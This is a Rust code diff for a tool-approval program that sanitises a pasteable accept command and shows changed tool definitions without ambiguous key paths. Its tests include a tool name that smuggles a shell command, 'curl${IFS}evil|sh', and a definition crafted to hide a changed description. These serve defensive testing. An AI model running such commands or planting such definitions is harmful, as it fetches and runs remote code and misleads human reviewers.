@@ -10,6 +10,7 @@ use crate::catalogue::Held;
 use crate::config::Server;
 use crate::human::moves_text;
 use crate::values::Definitions;
+use crate::values::full_name::{full_name, room};
 
 /// Such a tool.
 #[derive(Debug, Clone, PartialEq, Eq, Serialize)]
@@ -29,7 +30,8 @@ impl HeldTool {
     pub(super) fn of(server: &Server, held: Held) -> Self {
         let Held { tool, accepted, told } = held;
         let is_refused = server.settings.definitions == Definitions::Hold;
-        let accept = format!("{}__{tool}", server.prefix());
+        // It is to be pasted, so it has letters, digits, `_` and `-` alone.
+        let accept = full_name(server.prefix(), &tool, room(None));
         Self { server: server.name.clone(), accept, is_refused, accepted, told }
     }
 
@@ -45,40 +47,62 @@ impl HeldTool {
         let next = if *is_refused { "its calls are refused until" } else { "to accept it, type" };
         let mut lines = vec![format!("`{accept}` {what}; {next} `berth tools --accept {accept}`")];
         let (before, after) = (leaves(self.accepted.as_deref()), leaves(Some(&self.told)));
-        let paths: BTreeSet<&String> = before.keys().chain(after.keys()).collect();
+        let paths: BTreeSet<&Path> = before.keys().chain(after.keys()).collect();
         for path in paths {
             let (before, after) = (before.get(path), after.get(path));
             if before != after {
-                lines.push(format!("  {}", shown(path)));
+                lines.push(format!("  {}", shown(&joined(path))));
                 lines.extend(before.map(|text| format!("    - {}", shown(text))));
                 lines.extend(after.map(|text| format!("    + {}", shown(text))));
             }
+        }
+        if lines.len() == 1 {
+            // They differ in what is said twice, or in nothing that has a name.
+            lines.extend(self.accepted.as_deref().map(|text| format!("    - {}", shown(text))));
+            lines.push(format!("    + {}", shown(&self.told)));
         }
         lines
     }
 }
 
+/// Where a part stands in a definition.
+type Path = Vec<String>;
+
 /// The parts of a definition, by where they stand in it.
-fn leaves(definition: Option<&str>) -> BTreeMap<String, String> {
-    fn walk(value: &Value, path: &str, leaves: &mut BTreeMap<String, String>) {
+fn leaves(definition: Option<&str>) -> BTreeMap<Path, String> {
+    fn walk(value: &Value, path: &mut Path, leaves: &mut BTreeMap<Path, String>) {
         match value {
             Value::Object(members) if !members.is_empty() => {
                 for (name, value) in members {
-                    let path = if path.is_empty() { name.clone() } else { format!("{path}.{name}") };
-                    walk(value, &path, leaves);
+                    path.push(name.clone());
+                    walk(value, path, leaves);
+                    path.pop();
                 }
             }
-            value => drop(leaves.insert(path.to_owned(), value.to_string())),
+            value => drop(leaves.insert(path.clone(), value.to_string())),
         }
     }
     let mut leaves = BTreeMap::new();
     if let Some(text) = definition {
         match serde_json::from_str(text) {
-            Ok(value) => walk(&value, "", &mut leaves),
-            Err(_) => drop(leaves.insert(String::new(), text.to_owned())),
+            Ok(value) => walk(&value, &mut Path::new(), &mut leaves),
+            Err(_) => drop(leaves.insert(Path::new(), text.to_owned())),
         }
     }
     leaves
+}
+
+/// A key that could be taken for several stands in quotes.
+fn joined(path: &Path) -> String {
+    let is_plain = |char: char| char.is_ascii_alphanumeric() || matches!(char, '_' | '-' | '$');
+    let key = |key: &String| {
+        if !key.is_empty() && key.chars().all(is_plain) {
+            key.clone()
+        } else {
+            Value::from(key.as_str()).to_string()
+        }
+    };
+    path.iter().map(key).collect::<Vec<_>>().join(".")
 }
 
 /// Safe for a terminal, and with nothing in it that a model reads and a person does not see.
@@ -147,5 +171,33 @@ mod tests {
         assert_eq!(lines[2], r#"    + "a\u001b[2J\nb\u{200b}c\u{e0041}\u{202e}d""#);
         let broken = held(None, "{\u{1b}[2J", true);
         assert_eq!(broken[2], r"    + {\u{1b}[2J");
+    }
+
+    #[test]
+    fn no_name_of_a_key_hides_another_part() {
+        let before = r#"{"inputSchema":{"x":{"description":"ok"}}}"#;
+        let after = r#"{"inputSchema":{"x":{"description":"EVIL"},"x.description":"ok"},"":1}"#;
+        let lines = held(Some(before), after, true).join("\n");
+        assert!(lines.contains("+ \"EVIL\"") && lines.contains(r#"inputSchema."x.description""#), "{lines}");
+        let twice = held(Some(r#"{"a":1}"#), r#"{"a":2,"a":1}"#, true);
+        assert!(twice[2].contains(r#"{"a":2,"a":1}"#), "{twice:?}");
+    }
+
+    #[test]
+    fn the_command_that_is_to_be_pasted_has_nothing_for_a_shell() {
+        let home =
+            crate::config::Home::from_env(&|name| (name == "BERTH_HOME").then(|| "/b".to_owned())).unwrap();
+        let config = crate::config::Config::parse(
+            "[servers.git]\nimage = \"i\"",
+            std::path::Path::new("b.toml"),
+            &home,
+        );
+        let tool = "log;curl${IFS}evil|sh".to_owned();
+        let held = Held { tool, accepted: None, told: "{}".to_owned() };
+        let accept = HeldTool::of(config.unwrap().server("git").unwrap(), held).accept;
+        assert!(
+            accept.chars().all(|char| char.is_ascii_alphanumeric() || matches!(char, '_' | '-')),
+            "{accept}"
+        );
     }
 }
